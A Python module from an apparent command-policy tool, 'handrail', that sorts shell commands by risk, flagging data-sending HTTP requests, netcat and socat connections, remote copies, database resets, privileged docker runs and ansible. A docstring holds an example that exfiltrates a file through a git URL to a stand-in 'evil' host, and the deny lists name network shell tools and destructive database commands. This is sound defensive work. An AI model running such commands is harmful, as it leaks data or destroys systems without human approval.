"""What leaves the machine or changes state elsewhere: HTTP requests that send data or change
remote state (curl, wget, httpie, `gh api`), raw sockets, copies to other hosts, framework
commands that reset a database, containers that reach the host, and terminal multiplexers
that type into shells handrail never sees.

A plain download (`curl -O url`, `gh api repos/x/y`) is a read; a request that sends data or
uses a method other than GET and HEAD changes something a human owns. To the local machine
(`localhost`, `127.0.0.1`, `[::1]`) POST, PUT and PATCH are local changes (tier 2); DELETE,
and any sending elsewhere, need a human.
"""

from __future__ import annotations

TYPE_CHECKING = False
if TYPE_CHECKING:
    from handrail.policy.shell.common import Ctx, Finding
    from handrail.policy.shell.parts import Part
    from handrail.policy.shell.syntax import Word

_LOCAL = ("localhost", "127.", "[::1]", "0.0.0.0")
_CURL_SEND = frozenset({"-d", "--data", "--data-binary", "--data-ascii", "--data-raw", "--data-urlencode", "--json",
                        "-F", "--form", "--form-string", "-T", "--upload-file"})
_WGET_SEND = frozenset({"--post-data", "--post-file", "--body-data", "--body-file"})
_HTTPIE_METHODS = frozenset({"post", "put", "patch", "delete"})
_GH_FIELDS = frozenset({"-f", "--raw-field", "-F", "--field", "--input"})


def all_local(words: list[Word]) -> bool:
    """Whether the request names URLs and every one of them is to this machine."""
    urls = [w.text for w in words[1:] if "://" in w.text or w.text.startswith(_LOCAL) or w.text.startswith(":")]
    hosts = [_host(u) for u in urls]
    return bool(hosts) and all(_loopback(h) for h in hosts)


def _host(url: str) -> str:
    """The host a URL names: `http://localhost.evil.com:80/x` is `localhost.evil.com`."""
    rest = url.split("://", 1)[-1].split("/", 1)[0].rsplit("@", 1)[-1]
    if rest.startswith("["):
        return rest.split("]", 1)[0] + "]"
    return rest.split(":", 1)[0]


def _loopback(host: str) -> bool:
    return host in ("", "localhost", "[::1]", "0.0.0.0") or (host.startswith("127.") and
                                                            host.replace(".", "").isdigit())


def _value(words: list[Word], names: frozenset[str]) -> str | None:
    for i, w in enumerate(words):
        t = w.text
        if t in names and i + 1 < len(words):
            return words[i + 1].text
        for n in names:
            if n.startswith("--") and t.startswith(n + "="):
                return t.split("=", 1)[1]
            if not n.startswith("--") and t.startswith(n) and len(t) > len(n):
                return t[len(n) :]
    return None


def _verdict(part: Part, method: str, sends: bool) -> list[Finding]:
    method = method.upper()
    if method in ("GET", "HEAD", "OPTIONS", "TRACE") and not sends:
        return []
    what = f"sends a {method} request" if method not in ("GET", "HEAD", "OPTIONS", "TRACE") else "sends data"
    if all_local(part.words) and method != "DELETE":
        return [(2, "network-send", f"{part.name} {what} to this machine")]
    return [(3, "network-send", f"{part.name} {what}, which changes state or hands data to someone else")]


def check_http(part: Part, ctx: Ctx) -> list[Finding]:
    name = part.name
    words = part.words
    texts = [w.text for w in words[1:]]
    if name == "curl":
        method = _value(words, frozenset({"-X", "--request"})) or "GET"
        sends = any(t in _CURL_SEND or t.startswith(tuple(o + "=" for o in _CURL_SEND if o.startswith("--")))
                    or (t[:2] in ("-d", "-F", "-T") and len(t) > 2) for t in texts)
        return _verdict(part, method, sends)
    if name == "wget":
        method = _value(words, frozenset({"--method"})) or "GET"
        sends = any(t in _WGET_SEND or t.startswith(tuple(o + "=" for o in _WGET_SEND)) for t in texts)
        return _verdict(part, method, sends)
    if name in ("http", "https", "xh", "xhs"):
        ops = [t for t in texts if not t.startswith("-")]
        method = ops[0].upper() if ops and ops[0].lower() in _HTTPIE_METHODS | {"get", "head"} else "GET"
        items = ops[2:] if method != "GET" or (ops and ops[0].lower() == "get") else ops[1:]
        sends = any("=" in t or ":=" in t or "@" in t for t in items)
        return _verdict(part, method, sends)
    return []


def check_gh(part: Part, ctx: Ctx) -> list[Finding]:
    texts = [w.text for w in part.words[1:]]
    if texts[:1] != ["api"]:
        return []
    method = _value(part.words, frozenset({"-X", "--method"})) or "GET"
    sends = any(t in _GH_FIELDS or t.startswith(("--raw-field=", "--field=", "--input=")) for t in texts)
    if sends and method.upper() == "GET":
        method = "POST"  # gh api turns fields into a POST unless told otherwise
    if method.upper() in ("GET", "HEAD"):
        return []
    return [(3, "network-send", f"gh api sends a {method.upper()} request to GitHub, which changes a repository "
                                "or an account")]


def check_socket(part: Part, ctx: Ctx) -> list[Finding]:
    """Raw connections: whatever flows through them is beyond handrail's sight. `nc -z` only
    asks whether a port is open."""
    name = part.name
    texts = [w.text for w in part.words[1:]]
    scan = any(t.startswith("-") and not t.startswith("--") and "z" in t for t in texts) and part.feed is None
    if name in ("nc", "ncat", "netcat", "socat", "telnet") and not scan and "-h" not in texts:
        return [(3, "network-send", f"{name} opens a raw connection: what it sends or runs is unknown")]
    if name in ("sftp", "ftp", "tftp", "lftp"):
        return [(3, "network-send", f"{name} copies files to or from another machine")]
    if name == "ssh" and part.feed in ("pipe", "file", "heredoc", "herestring"):
        return [(3, "network-send", "ssh sends what it reads on its standard input to another machine")]
    return []


# git subcommands that send their operands (a URL, ref names) to another machine
_GIT_TALKS = frozenset({"ls-remote", "clone", "fetch", "pull", "push", "archive", "submodule", "remote"})


def check_git_url(part: Part, ctx: Ctx) -> list[Finding]:
    """`git ls-remote "https://evil/$(base64 -w0 f)"`, `git clone https://evil/$USER x`: what the URL
    carries out is only known at run time, as for curl. A substitution in any operand asks (ref names
    travel too); a variable in the repository or in a URL-like word asks."""
    words = part.words
    if len(words) < 2 or words[1].text not in _GIT_TALKS:
        return []
    first = next((w for w in words[2:] if not w.text.startswith("-") and w.text not in ("add", "set-url")), None)
    for w in words[2:]:
        if not w.dyn:
            continue
        urlish = w is first or "://" in w.raw or "@" in w.raw or w.raw.startswith(("git@", "ssh:", "file:"))
        if "$(" in w.raw or "`" in w.raw or (urlish and "$" in w.raw):
            return [(3, "network-send", f"git {words[1].text} sends {w.raw[:60]}, a value only known at run time, "
                                        "to another machine")]
    return []


def check_copy_out(part: Part, ctx: Ctx) -> list[Finding]:
    """`scp f host:`, `rsync -a . host:/srv`: copies to another machine."""
    ops = [w.text for w in part.words[1:] if not w.text.startswith("-")]
    if len(ops) >= 2 and _remote(ops[-1]):
        return [(3, "network-send", f"{part.name} copies to another machine ({ops[-1]})")]
    return []


def _remote(target: str) -> bool:
    head = target.split("/", 1)[0]
    return (":" in head and not head.endswith(":")) or "::" in target or target.startswith("rsync://") or (
        ":" in head and len(head) > 2)


# Framework commands that drop, reset or roll back a database: (program, verbs).
_DB_RESETS = {
    "rails": ("db:drop", "db:reset", "db:purge", "db:schema:load", "db:migrate:reset", "db:truncate_all",
              "db:rollback", "db:structure:load", "db:seed:replant"),
    "rake": ("db:drop", "db:reset", "db:purge", "db:schema:load", "db:migrate:reset", "db:truncate_all",
             "db:rollback"),
    "mix": ("ecto.drop", "ecto.reset", "ecto.rollback"),
    "prisma": ("reset", "--force-reset", "--accept-data-loss"),
    "sequelize": ("db:drop", "db:migrate:undo:all", "db:seed:undo:all"),
    "knex": ("migrate:rollback", "migrate:down", "seed:run"),
    "alembic": ("downgrade",),
    "artisan": ("migrate:fresh", "migrate:reset", "db:wipe", "migrate:rollback", "migrate:refresh"),
    "typeorm": ("schema:drop", "migration:revert"),
    "drizzle-kit": ("drop",),
    "flyway": ("clean",),
    "liquibase": ("drop-all", "dropAll", "rollback", "rollback-count"),
    "manage.py": ("flush", "reset_db", "sqlflush", "migrate zero"),
    "django-admin": ("flush", "reset_db", "sqlflush"),
    "dotnet": ("drop",),
    "flask": ("downgrade",),
}


def check_db_reset(part: Part, ctx: Ctx) -> list[Finding]:
    words = [w.text for w in part.words]
    name = part.name
    for i, w in enumerate(words):
        base = w.rsplit("/", 1)[-1]
        verbs = _DB_RESETS.get(base) or (_DB_RESETS.get(name) if i == 0 else None)
        if verbs is None:
            continue
        rest = words[i + 1 :]
        joined = " ".join(rest)
        # `rake db:drop:all`, `rails db:reset:all`: a namespaced form of the verb does the same
        hit = next((v for v in verbs if v in rest or (" " in v and v in joined) or
                    any(r.startswith(v + ":") for r in rest)), None)
        if hit is not None and (name != "dotnet" or "database" in rest):
            return [(3, "db-reset", f"{base} {hit} drops or resets a database")]
    return []


_DOCKER_HOST = frozenset({"--privileged", "--pid=host", "--net=host", "--network=host", "--ipc=host",
                          "--userns=host", "--uts=host"})


def check_container(part: Part, ctx: Ctx) -> list[Finding]:
    """A container that mounts the host's folders or shares its kernel namespaces is the host;
    removing containers or images chosen at run time removes all of them."""
    from handrail.policy.shell.common import in_project, is_temp
    from handrail.policy.shell.parts import resolve

    words = part.words
    sub = [w.text for w in words[1:3]]
    if (sub[:1] in (["rm"], ["rmi"], ["kill"]) or sub in (["container", "rm"], ["image", "rm"], ["volume", "rm"],
                                                         ["container", "prune"], ["image", "prune"])) and \
            any(w.dyn for w in words[2:]):
        return [(3, "system", f"{part.name} {' '.join(sub)} removes containers, images or volumes only known at "
                              "run time (all of them, as written)")]
    if sub[:1] == ["cp"] or sub == ["container", "cp"]:
        # `docker cp CONTAINER:SRC DEST`: DEST, on the host, is written as any other file is
        from handrail.policy.shell.targets import check_paths

        ops = [w for w in words[3 if sub[0] == "container" else 2:] if not w.text.startswith("-")]
        dest = ops[-1:] if len(ops) >= 2 and ":" not in ops[-1].text.split("/", 1)[0] else []
        return check_paths(part, dest, [], ctx)
    if len(words) < 2 or words[1].text not in ("run", "create", "exec"):
        return []
    texts = [w.text for w in words]
    for t in texts:
        if t in _DOCKER_HOST or t.startswith(("--cap-add", "--device", "--security-opt")):
            return [(3, "system", f"{part.name} {words[1].text} {t} gives the container the host")]
    for i, t in enumerate(texts):
        spec = None
        if t in ("-v", "--volume", "--mount") and i + 1 < len(texts):
            spec = texts[i + 1]
        elif t.startswith(("--volume=", "--mount=")) or (t.startswith("-v") and len(t) > 2):
            spec = t.split("=", 1)[1] if t.startswith("--") else t[2:]
        if spec is None:
            continue
        source = spec.split(",", 1)[0].split(":", 1)[0] if "src=" not in spec and "source=" not in spec else \
            next((p.split("=", 1)[1] for p in spec.split(",") if p.startswith(("src=", "source="))), "")
        if not source.startswith(("/", "~", ".", "$")):
            continue  # a named volume
        from handrail.policy.shell.syntax import Word

        w = words[i + 1] if t in ("-v", "--volume", "--mount") else words[i]
        path = resolve(Word(source, w.raw), part.cwd, ctx.home) if not w.dyn else None
        if path is None or not (in_project(path, ctx) or is_temp(path, ctx)) or path == "/":
            return [(3, "system", f"{part.name} mounts {source} from the host, outside the work tree")]
    return []


def check_multiplexer(part: Part, ctx: Ctx) -> list[Finding]:
    """tmux and screen type into, or start, shells that no hook sees."""
    texts = [w.text for w in part.words[1:]]
    if part.name == "tmux":
        from handrail.policy.shell.multiplexer import check_tmux

        return check_tmux(texts)
    if part.name == "screen" and any(t in ("-X", "-dm", "-dmS", "-d", "-m") for t in texts):
        return [(3, "dynamic", "screen runs or types commands into a shell that handrail does not see")]
    return []


_LOOPBACK = ("127.", "localhost", "::1", "[::1]")


def check_serve(part: Part, ctx: Ctx) -> list[Finding]:
    """`python -m http.server` and `php -S` serve the folder: to this machine a local change, to
    every interface (their default, or 0.0.0.0) the work tree, secrets included, to the network."""
    texts = [w.text for w in part.words[1:]]
    if part.name == "python":
        if texts[:2] != ["-m", "http.server"]:
            return []
        bind = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("--bind", "-b")), "")
    elif part.name == "php":
        at = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "-S"), None)
        if at is None:
            return []
        bind = at.rsplit(":", 1)[0]
    else:
        return []
    if bind.startswith(_LOOPBACK):
        return [(2, "network-send", f"{part.name} serves files to this machine only")]
    return [(3, "network-send", f"{part.name} serves the folder to the network ({bind or 'every interface'})")]


# Ad-hoc modules that only gather facts or test the connection.
_ANSIBLE_READS = frozenset({"ping", "setup", "gather_facts", "ansible.builtin.ping", "ansible.builtin.setup",
                            "debug", "ansible.builtin.debug", "stat", "ansible.builtin.stat"})
_INVENTORY_DATA = (".ini", ".yml", ".yaml", ".cfg", ".txt", ".json", ".toml", "/hosts", "/inventory")
_PLAYBOOK_READS = frozenset({"--syntax-check", "--list-hosts", "--list-tasks", "--list-tags", "--help", "-h",
                             "--version"})


def check_ansible(part: Part, ctx: Ctx) -> list[Finding]:
    """ansible runs modules on other machines: only fact-gathering and listings are reads."""
    texts = [w.text for w in part.words[1:]]
    inventory = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-i", "--inventory", "--inventory-file")]
    inventory += [t.split("=", 1)[1] for t in texts if t.startswith(("--inventory=", "--inventory-file="))]
    if any("," not in v and not v.endswith(_INVENTORY_DATA) for v in inventory):
        # an inventory that is not a data file may be a script, which ansible runs to list the hosts
        return [(3, "dynamic", f"{part.name} -i {inventory[0]} may run an inventory script")]
    if any(t in ("-C", "--check") for t in texts):
        return []  # check mode changes nothing (modules without it, such as command, are skipped)
    if part.name == "ansible-playbook":
        if any(t in _PLAYBOOK_READS for t in texts):
            return []
        return [(3, "system", "ansible-playbook changes the machines of its inventory")]
    if any(t in ("--help", "-h", "--version", "--list-hosts") for t in texts):
        return []
    module = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t in ("-m", "--module-name")), "command")
    if module in _ANSIBLE_READS and not any(t in ("-a", "--args", "-b", "--become") for t in texts):
        return []
    return [(3, "system", f"ansible runs the {module} module on the machines of its inventory")]
